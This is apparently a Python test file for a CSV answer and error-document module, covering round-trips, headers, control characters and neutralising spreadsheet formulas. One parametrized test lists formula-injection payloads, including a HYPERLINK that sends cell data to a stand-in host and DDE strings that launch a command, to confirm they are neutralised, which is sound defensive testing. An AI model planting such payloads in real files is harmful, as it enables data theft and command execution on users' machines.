"""The CSV answer and error document formats."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hybrid_common.results import ErrorDoc, PersonRow, parse_csv, render_csv

field = st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=20).filter(
    lambda s: s.strip() != ""
)


@given(st.lists(st.builds(PersonRow, field, field, field), max_size=5))
def test_csv_round_trip(rows: list[PersonRow]) -> None:
    # Fields a spreadsheet would run as a formula come back with a leading quote (OWASP).
    def neutral(value: str) -> str:
        return "'" + value if value.lstrip()[:1] in ("=", "+", "-", "@") else value

    expected = [PersonRow(neutral(r.name), neutral(r.major), neutral(r.year)) for r in rows]
    assert parse_csv(render_csv(rows)) == expected


def test_csv_has_no_header_and_classic_first_row() -> None:
    text = render_csv([PersonRow("mr_bean", "lawyer", "freshmen"), PersonRow("bush", "", "")])
    assert text == "mr_bean,lawyer,freshmen\nbush,,\n"


def test_empty_csv_means_nobody() -> None:
    assert render_csv([]) == ""
    assert parse_csv("") == []
    assert parse_csv("\n\n") == []


def test_error_doc_round_trip_and_tolerates_missing_fields() -> None:
    doc = ErrorDoc("not_a_video", "no video stream in 'x.mp4'", "req-1", "videos/n/s/x.mp4")
    assert ErrorDoc.from_json(doc.to_json()) == doc
    assert ErrorDoc.from_json("{}").code == "unknown"


def test_control_characters_cannot_split_a_row() -> None:
    text = render_csv([PersonRow("a\rb", "x\ny", "z")])
    assert parse_csv(text) == [PersonRow("a b", "x y", "z")]


@given(st.lists(st.builds(PersonRow, field, field, field), max_size=5))
def test_rendering_is_stable_once_neutralised(rows: list[PersonRow]) -> None:
    # What a reader gets back renders to the same text again: neutralising is idempotent.
    once = render_csv(rows)
    assert render_csv(parse_csv(once)) == once


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
    ],
)
def test_formula_fields_are_neutralised_with_a_quote(value: str) -> None:
    rows = parse_csv(render_csv([PersonRow(value, value, value)]))
    for cell in (rows[0].name, rows[0].major, rows[0].year):
        assert cell.startswith("'")
        assert cell.lstrip("'").strip()[0] in "=+-@"


def test_ordinary_fields_are_not_quoted() -> None:
    text = render_csv([PersonRow("o'brien", "computer science", "2026"), PersonRow("a-b", "", "")])
    assert text == "o'brien,computer science,2026\na-b,,\n"


def test_header_row_is_written_first_when_asked_and_skipped_when_read() -> None:
    rows = [PersonRow("mr_bean", "lawyer", "freshmen")]
    text = render_csv(rows, header=True)
    assert text == "name,major,year\nmr_bean,lawyer,freshmen\n"
    assert render_csv([], header=True) == "name,major,year\n"
    assert parse_csv(text, header=True) == rows
    assert parse_csv(text) == [PersonRow("name", "major", "year"), *rows]
    # A reader told to expect a header keeps a first row that is not one.
    assert parse_csv("mr_bean,lawyer,freshmen\n", header=True) == rows
